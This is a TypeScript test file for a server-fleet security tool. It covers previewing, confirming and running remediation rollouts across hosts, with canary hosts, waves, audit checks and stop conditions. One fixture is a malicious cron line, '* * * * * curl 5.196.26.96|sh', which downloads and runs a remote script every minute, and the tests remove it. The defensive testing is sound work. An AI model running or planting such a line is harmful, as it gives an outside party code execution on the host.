import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { asJson, verifyAudit } from '@/lib/store';
import { viewFinding } from '../findings/view-finding';
import { seenAnywhere } from '../fleet/seen-anywhere';
import { changeSetting } from '../settings/change-settings';
import { outcomeOf } from '../testing/action-stage';
import { fails, MINER, minerOn, type RolloutStage, rolloutStage } from '../testing/rollout-stage';
import { makeAdministrator, makeHost } from '../testing/test-context';
import { confirmRollout } from './confirm-rollout';
import { listRollouts } from './list-rollouts';
import { previewRollout } from './preview-rollout';
import { stopRollout } from './stop-rollout';

let stage: RolloutStage;
let context: RolloutStage['context'];
let user: RolloutStage['user'];
beforeEach(async () => {
  stage = await rolloutStage();
  ({ context, user } = stage);
});
afterEach(() => context.close());

describe('a preview of one action on many hosts', () => {
  test('finds the thing itself, plans it on every host and changes nothing', async () => {
    const rolloutId = await stage.preview();
    expect(await stage.stands(rolloutId)).toBe('planned: web-1 waiting, web-2 waiting, web-3 waiting, web-4 waiting');
    const { hash, phrase, counts, plans, label } = await stage.view(rolloutId);
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
    expect([phrase, label]).toEqual(['4 hosts', MINER]);
    expect(counts).toMatchObject({ hosts: 4, planned: 4, ready: 4 });
    // The ids of the containers differ, what is done does not.
    expect(plans.map(({ hosts }) => hosts.length)).toEqual([4]);
    expect(stage.applied).toEqual([]);
  });

  test('names every host that it passes over, with why', async () => {
    stage.world('web-2').away = true;
    stage.world('web-3').refuses = 'Containers use this image.';
    await makeHost(context, 'new-5');
    const rolloutId = await stage.preview('image.remove');
    expect(await stage.stands(rolloutId)).toBe(
      'planned: web-1 waiting, web-2 skipped unreachable, web-3 skipped refused, web-4 waiting',
    );
    const { hosts, notRead, phrase } = await stage.view(rolloutId);
    expect(hosts[2]?.steps[0]?.skip?.sentence).toBe('Containers use this image.');
    expect(notRead.map(({ name }) => name)).toEqual(['new-5']);
    expect(phrase).toBe('2 hosts');
  });

  test('takes no target from the caller, and none that is nowhere', async () => {
    const ask = { what: 'image', value: MINER, actionId: 'container.quarantine' };
    const target = { kind: 'container', containerId: 'x', imageId: 'x', name: 'x' };
    expect(await outcomeOf(previewRollout(context, user, { ...ask, target }))).toBe('invalid');
    expect(await outcomeOf(previewRollout(context, user, { ...ask, value: 'nginx' }))).toBe('not-offered');
    expect(await outcomeOf(previewRollout(context, user, { ...ask, actionId: 'process.kill' }))).toBe('not-offered');
    expect(await outcomeOf(previewRollout(context, user, { ...ask, what: 'key' }))).toBe('not-offered');
    expect(await context.db.rollout.count()).toBe(0);
  });

  test('does one host with several of it one after the other', async () => {
    const [two, other] = [minerOn('a'), minerOn('b')];
    const containers = [...(two.containers ?? []), ...(other.containers ?? [])];
    await stage.addHost('web-5', 5, { ...two, containers });
    const rolloutId = await stage.confirmed();
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toMatch(/^done: web-5 done done, web-1 done/);
    expect(stage.applied.slice(0, 2)).toEqual(['web-5', 'web-5']);
  });
});

describe('by a finding', () => {
  const line = '* * * * * curl 5.196.26.96|sh';
  async function finding(name: string, text: string, lineNumber: number): Promise<string> {
    const at = new Date();
    const target = { kind: 'cron', path: '/etc/crontab', lineNumber, line: text };
    const { id } = await context.db.finding.create({
      data: {
        ...{
          hostId: stage.ids.get(name) ?? '',
          fingerprint: `f-${name}`,
          ruleId: 'r',
          family: 'host',
          title: 'Bad line',
        },
        ...{ severity: 'high', subjectKind: 'cron', subjectId: 'c', subjectName: 'c', state: 'open' },
        ...{ firstSeenAt: at, lastSeenAt: at, openedAt: at, sentence: [], evidence: [], links: {} },
        offers: asJson([{ actionId: 'cron.removeEntry', target }]),
      },
    });
    return id;
  }

  test('its page and the page of the thing say on how many hosts it can be done', async () => {
    const findingId = await finding('web-1', line, 3);
    await finding('web-2', line, 12);
    await finding('web-3', '* * * * * backup', 1);
    const { everywhere } = await viewFinding(context, user, { findingId });
    expect(everywhere).toEqual([
      { ask: { findingId, actionId: 'cron.removeEntry', offer: 0 }, label: 'Remove line', hosts: 2 },
    ]);
    const seen = await seenAnywhere(context, user, { what: 'image', value: MINER });
    expect(seen.everywhere.map(({ ask, hosts }) => ['actionId' in ask && ask.actionId, hosts])).toEqual([
      ['container.quarantine', 4],
      ['container.stop', 4],
      ['container.remove', 4],
      ['image.remove', 4],
    ]);
  });

  test('the same line is found wherever findings offer to remove it', async () => {
    const findingId = await finding('web-1', line, 3);
    await finding('web-2', line, 12);
    await finding('web-3', '* * * * * backup', 1);
    const { rolloutId } = await previewRollout(context, user, { findingId, actionId: 'cron.removeEntry' });
    const steps = await context.db.rolloutStep.findMany({ where: { rolloutId }, orderBy: { place: 'asc' } });
    expect(steps.map(({ hostName, target, findingId: why }) => [hostName, target, why === findingId])).toEqual([
      ['web-1', { kind: 'cron', path: '/etc/crontab', lineNumber: 3, line }, true],
      ['web-2', { kind: 'cron', path: '/etc/crontab', lineNumber: 12, line }, false],
    ]);
  });
});

describe('one confirmation', () => {
  test('is bound to all plans, to its person, to a count, and is good once', async () => {
    const rolloutId = await stage.preview();
    const { hash } = await stage.view(rolloutId);
    const good = { rolloutId, hash, typed: '4 hosts' };
    const other = await makeAdministrator(context, 'Jon Aalto');
    expect(await outcomeOf(confirmRollout(context, user, { ...good, hash: '0'.repeat(64) }))).toBe('plan-changed');
    expect(await outcomeOf(confirmRollout(context, other, good))).toBe('plan-other');
    expect(await outcomeOf(confirmRollout(context, user, { ...good, typed: '5 hosts' }))).toBe('confirm-name');
    expect(await outcomeOf(confirmRollout(context, user, { ...good, waveSize: 0 }))).toBe('invalid');
    const elsewhere = (await makeHost(context, 'db-1')).id;
    expect(await outcomeOf(confirmRollout(context, user, { ...good, canaryId: elsewhere }))).toBe('invalid');
    const later = { ...context, now: () => new Date(Date.now() + 11 * 60_000) };
    expect(await outcomeOf(confirmRollout(later, user, good))).toBe('plan-expired');
    await changeSetting(context, user, { key: 'actions.off', value: true });
    expect(await outcomeOf(confirmRollout(context, user, good))).toBe('read-only');
    await changeSetting(context, user, { key: 'actions.off', value: false });
    const outcomes = await Promise.all([1, 2, 3].map(() => outcomeOf(confirmRollout(context, user, good))));
    expect(outcomes.sort()).toEqual(['already-confirmed', 'already-confirmed', 'done']);
    expect(stage.applied).toEqual([]);
  });
});

describe('a rollout that runs', () => {
  test('does the canary alone, then waves, each host once, as a run of its own and on the record', async () => {
    const rolloutId = await stage.confirmed({ waveSize: 2 });
    await Promise.all([1, 2, 3].map(() => stage.run(rolloutId)));
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe('done: web-1 done, web-2 done, web-3 done, web-4 done');
    expect(stage.applied[0]).toBe('web-1');
    expect([...stage.applied].sort()).toEqual(['web-1', 'web-2', 'web-3', 'web-4']);
    expect((await stage.view(rolloutId)).hosts.map(({ wave }) => wave)).toEqual([0, 1, 1, 2]);
    const record = await stage.record();
    for (const [entry, times] of [
      ['rollout.confirm done', 1],
      ['action.confirm done', 4],
      ['action.end done', 4],
      ['rollout.done done', 1],
    ])
      expect(record.filter((one) => one === entry)).toHaveLength(Number(times));
    expect(await verifyAudit(context.db, context.vault)).toMatchObject({ ok: true });
    expect(await context.db.evidenceBundle.count()).toBe(4);
    expect((await listRollouts(context, user))[0]).toMatchObject({ hosts: 4, done: 4, skipped: 0 });
  });

  test('begins with the host that was chosen', async () => {
    const rolloutId = await stage.confirmed({ canaryId: stage.ids.get('web-3') });
    await stage.run(rolloutId);
    expect(stage.applied[0]).toBe('web-3');
  });

  test('touches nothing else when the canary fails', async () => {
    stage.world('web-1').apply = fails;
    const rolloutId = await stage.confirmed();
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe(
      'stopped failed: web-1 failed, web-2 waiting, web-3 waiting, web-4 waiting',
    );
    expect((await stage.view(rolloutId)).stop?.sentence).toBe('web-1: docker said no.');
    expect(stage.applied).toEqual(['web-1']);
  });

  test.each([
    [false, 'stopped unconfirmed'],
    [null, 'stopped unknown'],
  ])('does not go on when the canary does not prove itself: %s', async (holds, how) => {
    stage.world('web-1').holds = holds;
    const rolloutId = await stage.confirmed();
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe(`${how}: web-1 failed, web-2 waiting, web-3 waiting, web-4 waiting`);
    expect(stage.applied).toEqual(['web-1']);
  });

  test('stops at the first failure of a wave, and begins no other wave', async () => {
    stage.world('web-2').apply = fails;
    const rolloutId = await stage.confirmed({ waveSize: 1 });
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe(
      'stopped failed: web-1 done, web-2 failed, web-3 waiting, web-4 waiting',
    );
  });

  test('passes over hosts that have changed since, names them, and shows the new plan', async () => {
    const rolloutId = await stage.confirmed();
    stage.world('web-2').imageId = 'i2';
    stage.world('web-3').away = true;
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe(
      'done: web-1 done, web-2 skipped changed, web-3 skipped unreachable, web-4 done',
    );
    expect((await stage.view(rolloutId)).hosts[1]?.steps[0]?.newPlan?.world).toEqual({ imageId: 'i2' });
    const end = await context.db.auditEntry.findFirstOrThrow({ where: { verb: 'rollout.done' } });
    expect(end.sentence).toBe('Done on 2 of 4 servers. Skipped: web-2, web-3.');
  });

  test('takes the next host for its canary when the first one has changed', async () => {
    const rolloutId = await stage.confirmed({ waveSize: 3 });
    stage.world('web-1').imageId = 'i2';
    stage.world('web-2').apply = fails;
    await stage.run(rolloutId);
    expect(stage.applied).toEqual(['web-2']);
    expect(await stage.stands(rolloutId)).toMatch(
      /^stopped failed: web-1 skipped changed, web-2 failed, web-3 waiting/,
    );
  });

  test('is stopped by a person between two waves', async () => {
    const rolloutId = await stage.confirmed({ waveSize: 1 });
    stage.world('web-2').apply = () => stopRollout(context, user, { rolloutId });
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toBe('stopped person: web-1 done, web-2 done, web-3 waiting, web-4 waiting');
    expect(await stage.record()).toContain('rollout.stop done');
  });

  test.each(['right', 'switch'])('stops when its person may no longer: %s', async (what) => {
    const rolloutId = await stage.confirmed({ waveSize: 1 });
    stage.world('web-1').apply = async () => {
      if (what === 'right') await context.db.user.updateMany({ data: { disabledAt: new Date() } });
      else await changeSetting(context, user, { key: 'actions.off', value: true });
    };
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toMatch(/^stopped refused: web-1 done, web-2 waiting/);
    expect(stage.applied).toEqual(['web-1']);
  });

  test('passes over a host on which something else is being done', async () => {
    const rolloutId = await stage.confirmed();
    const hostId = stage.ids.get('web-2') ?? '';
    await context.db.actionRun.create({
      data: {
        ...{ hostId, hostName: 'web-2', actionId: 'container.stop', targetKey: 'x', target: {}, state: 'applying' },
        ...{ plannedById: user.id, plannedByName: user.name, activeHostId: hostId },
      },
    });
    await stage.run(rolloutId);
    expect(await stage.stands(rolloutId)).toMatch(/^done: web-1 done, web-2 skipped busy, web-3 done/);
  });
});
